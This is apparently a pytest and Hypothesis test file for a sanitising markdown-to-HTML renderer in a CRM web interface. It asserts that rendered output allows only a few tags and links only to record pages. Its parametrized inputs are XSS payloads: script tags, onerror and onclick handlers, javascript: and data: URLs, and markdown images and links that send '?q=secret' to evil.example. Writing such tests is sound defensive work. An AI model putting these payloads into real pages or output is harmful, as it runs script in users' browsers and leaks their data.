"""What a model or a record says as HTML: nothing in it runs, loads, or leads anywhere but to a record."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from web.pages.markdown import as_html, settled

RECORD = "01a0cd2b-e0c0-7b70-ab90-8561bc686518"
SOME = {
    "p",
    "strong",
    "em",
    "s",
    "a",
    "ul",
    "ol",
    "li",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "div",
    "code",
    "pre",
}
MORE = {"h1", "h2", "h3", "h4", "h5", "h6", "hr", "br", "blockquote"}
TAGS = SOME | MORE
ALLOWED = {
    "a": re.compile(r' href="/ui/records/[a-z]+/[0-9a-f-]{36}"'),
    "div": re.compile(r' class="wide" tabindex="0"'),
    "ol": re.compile(r' start="\d+"'),
    "code": re.compile(r' class="language-[^"<>]*"'),
}


def unsafe_in(html: str) -> list[str]:
    """Tags and attributes that are not among the few."""
    found = re.findall(r"<(/?)([^\s>/]+)([^>]*)>", html)
    return [
        f"<{slash}{tag}{rest}>"
        for slash, tag, rest in found
        if tag not in TAGS or (rest.rstrip(" /") and not (tag in ALLOWED and ALLOWED[tag].fullmatch(rest.rstrip(" /"))))
    ]


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![stolen](https://evil.example/x.png?q=secret)",
        "![stolen][1]\n\n[1]: https://evil.example/x.png",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](data:text/html,<script>alert(1)</script>)",
        "[click](https://evil.example/?q=secret)",
        "[click](//evil.example)",
        "[click](/ui/sign-out)",
        "<https://evil.example/?q=secret>",
        f"[click](crm://contact/{RECORD}/../../sign-out)",
        f"[click](crm://nothing/{RECORD})",
        f'[click](crm://contact/{RECORD} "onmouseover=alert(1)")',
        "| a |\n| - |\n| <b onclick=alert(1)>x</b> |",
        "| a | b |\n| -: | :-: |\n| 1 | 2 |",
        "```html\n<script>alert(1)</script>\n```",
        '```" onload=alert(1)\nx\n```',
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    ],
)
def test_nothing_runs_loads_or_leads_away(text: str) -> None:
    html = as_html(text)

    assert unsafe_in(html) == []
    assert re.search(r"(src|href)=\"(?!/ui/records/)", html) is None


def test_where_a_link_wanted_to_lead_is_said() -> None:
    assert as_html("[our site](https://evil.example/?q=1)") == "<p>our site (https://evil.example/?q=1)</p>\n"
    assert as_html("<https://evil.example>") == "<p>https://evil.example</p>\n"


def test_a_link_to_a_record_leads_to_its_page() -> None:
    html = as_html(f"[Solvento **grid**](crm://opportunity/{RECORD.upper()})")

    assert html == f'<p><a href="/ui/records/opportunity/{RECORD}">Solvento <strong>grid</strong></a></p>\n'


def test_names_with_underscores_and_line_ends_stay_as_they_are() -> None:
    assert as_html("delete_record then find_records\nnext") == "<p>delete_record then find_records<br />\nnext</p>\n"


@given(st.text(alphabet=st.sampled_from(list("<>[]()!\"'`*_|-#&:/ \nabcjs=.\\")), max_size=200))
def test_whatever_is_written_stays_harmless(text: str) -> None:
    assert unsafe_in(as_html(text)) == []


WORDS = st.sampled_from(
    [
        "One. ",
        "two\n",
        "\n\n",
        "- item\n",
        "1. first\n",
        "| a | b |\n",
        "| - | - |\n",
        "```\n",
        "code\n",
        "# Title\n",
        "> q\n",
        "**b** ",
    ]
)


@given(st.lists(WORDS, max_size=30))
def test_what_is_settled_does_not_change_with_what_follows(pieces: list[str]) -> None:
    text = "".join(pieces)
    done = settled(text)

    assert as_html(text[:done]) + as_html(text[done:]) == as_html(text)
